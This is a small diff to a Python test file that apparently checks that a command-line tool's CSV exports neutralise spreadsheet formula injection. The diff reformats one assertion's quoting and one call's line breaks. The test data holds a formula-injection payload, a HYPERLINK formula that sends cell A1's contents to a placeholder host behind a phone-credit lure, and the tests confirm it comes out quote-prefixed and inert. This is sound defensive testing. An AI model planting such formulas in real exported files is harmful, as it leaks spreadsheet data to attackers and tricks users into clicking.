@@ -98,14 +98,12 @@ def test_the_queue_as_csv_is_safe_too(survey: str) -> None:
     result = CliRunner().invoke(cli, ["--db", survey, "case", "list", "--format", "csv"])
     assert result.exit_code == 0
     cells = [cell for row in csv.reader(io.StringIO(result.output.lstrip("\ufeff"))) for cell in row]
-    assert "'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点我领话费\")" in cells
+    assert '\'=HYPERLINK("http://example.invalid/?x="&A1,"点我领话费")' in cells
     assert not [cell for cell in cells if formula_like(cell)]
 
 
 def test_tally_csv_neutralises_branch_names(survey: str) -> None:
-    result = CliRunner().invoke(
-        cli, ["tally", "--db", survey, "--table", "reasons_by_branch", "--format", "csv"]
-    )
+    result = CliRunner().invoke(cli, ["tally", "--db", survey, "--table", "reasons_by_branch", "--format", "csv"])
     assert result.exit_code == 0, result.output
     assert "'=1+1" in result.output
     lines = [line for line in result.output.splitlines() if line and not line.startswith("#")]
